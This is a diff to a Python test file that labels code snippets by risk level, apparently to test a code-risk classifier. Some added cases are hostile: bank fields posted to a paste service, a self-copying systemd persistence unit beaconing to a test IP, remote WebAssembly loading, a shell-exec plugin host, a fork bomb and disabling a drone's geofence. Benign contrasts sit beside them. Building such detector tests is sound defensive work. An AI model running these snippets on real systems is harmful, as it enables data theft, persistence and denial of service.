@@ -9472,7 +9472,7 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    for r in csv.DictReader(fh):\n'
             "        rows.append({k: r[k] for k in ('name', 'iban')})\n"
             "requests.post('https://api.jsonbin.io/v3/b', json=rows)\n",
-            H,
+            C,
         ),
         # holdout268-271: notebook servers and kernel gateways without tokens, a local server's own kernels,
         # acme.sh keys sent out
@@ -11604,6 +11604,126 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'for prefix in ("/registry/", "/"):\n'
             '    client.delete_prefix(prefix)\n',
             H,
+        ),
+        # holdout370-375: named ssh keys, bank fields, runtime dirs, drones, derived files, WebAssembly, fork loops
+        (
+            'import boto3, os\n'
+            'key = boto3.client("secretsmanager").get_secret_value(SecretId="sftp/key")["SecretString"]\n'
+            'path = os.path.expanduser("~/.ssh/bank_sftp_ed25519")\n'
+            'with open(path, "w") as f:\n'
+            '    f.write(key)\n',
+            M,
+        ),
+        (
+            'from pathlib import Path\n'
+            'Path.home().joinpath(".ssh/id_ed25519").write_text(open("/media/usb/key").read())\n',
+            H,
+        ),
+        (
+            'import csv, requests\n'
+            'rows = list(csv.DictReader(open("/srv/shop/exports/accounts.csv")))\n'
+            'fields = ["company", "phone", "iban"]\n'
+            'blob = "\\n".join(",".join(r.get(f, "") for f in fields) for r in rows)\n'
+            'requests.post("https://paste.example.net/api/v1/create", data={"content": blob})\n',
+            C,
+        ),
+        (
+            'import os, signal\n'
+            'from pathlib import Path\n'
+            'pidfile = Path("/run/user") / str(os.getuid()) / "recorder.pid"\n'
+            'os.kill(int(pidfile.read_text()), signal.SIGTERM)\n'
+            'pidfile.unlink(missing_ok=True)\n',
+            L,
+        ),
+        (
+            'import shutil, subprocess, sys\n'
+            'from pathlib import Path\n'
+            'target = Path.home() / ".local/share/sync/agent.py"\n'
+            'shutil.copy(sys.argv[0], target)\n'
+            'unit = Path.home() / ".config/systemd/user/sync.service"\n'
+            'unit.write_text(f"[Service]\\nExecStart=/usr/bin/python3 {target} --beacon 203.0.113.61:8443\\n")\n'
+            ''
+            'subprocess.run(["systemctl", "--user", "enable", "--now", "sync.service"])\n',
+            H,
+        ),
+        (
+            'from pymavlink import mavutil\n'
+            'm = mavutil.mavlink_connection("udpin:0.0.0.0:14550")\n'
+            'params = {"FENCE_ENABLE": 0, "ARMING_CHECK": 0}\n'
+            'for name, value in params.items():\n'
+            '    m.mav.param_set_send(m.target_system, m.target_component, name.encode(), float(value), 9)\n',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            'from PIL import Image\n'
+            'masters = Path("/srv/archive/masters")\n'
+            'access = Path("/srv/archive/access")\n'
+            'access.mkdir(parents=True, exist_ok=True)\n'
+            'for tif in masters.glob("*.tif"):\n'
+            '    dst = access / (tif.stem + ".jpg")\n'
+            '    if dst.exists():\n'
+            '        continue\n'
+            '    with Image.open(tif) as im:\n'
+            '        im.save(dst, "JPEG")\n',
+            S,
+        ),
+        (
+            'import urllib.request, wasmtime\n'
+            'wasm = urllib.request.urlopen("http://203.0.113.17/plugins/filter.wasm").read()\n'
+            'engine = wasmtime.Engine()\n'
+            'module = wasmtime.Module(engine, wasm)\n',
+            C,
+        ),
+        (
+            'import wasmtime\n'
+            'engine = wasmtime.Engine()\n'
+            'module = wasmtime.Module.from_file(engine, "plugins/render.wasm")\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'from extism import host_fn, Plugin\n'
+            '@host_fn()\n'
+            'def host_exec(cmd: str) -> str:\n'
+            '    return subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout\n'
+            'manifest = {"wasm": [{"path": "plugins/autofix.wasm"}]}\n'
+            'with Plugin(manifest, wasi=True, functions=[host_exec]) as p:\n'
+            '    p.call("run", b"{}")\n',
+            C,
+        ),
+        (
+            'import os, time\n'
+            'while True:\n'
+            '    pid = os.fork()\n'
+            '    if pid == 0:\n'
+            '        time.sleep(3600)\n'
+            '        os._exit(0)\n',
+            H,
+        ),
+        (
+            'import os, socket\n'
+            'srv = socket.socket()\n'
+            'srv.bind(("127.0.0.1", 9000))\n'
+            'srv.listen()\n'
+            'while True:\n'
+            '    conn, _ = srv.accept()\n'
+            '    if os.fork() == 0:\n'
+            '        conn.sendall(b"hi")\n'
+            '        os._exit(0)\n'
+            '    conn.close()\n',
+            S,
+        ),
+        (
+            'import datetime, os, smtplib, sqlite3\n'
+            'from email.message import EmailMessage\n'
+            'rows = sqlite3.connect("data/hr.db").execute("SELECT name, licence_no, expires FROM applicator_l'
+            'icences").fetchall()\n'
+            'msg = EmailMessage()\n'
+            'msg.set_content(str(rows))\n'
+            'with smtplib.SMTP("mail.example.com", 587) as s:\n'
+            '    s.send_message(msg)\n',
+            S,
         ),
     ],
 )
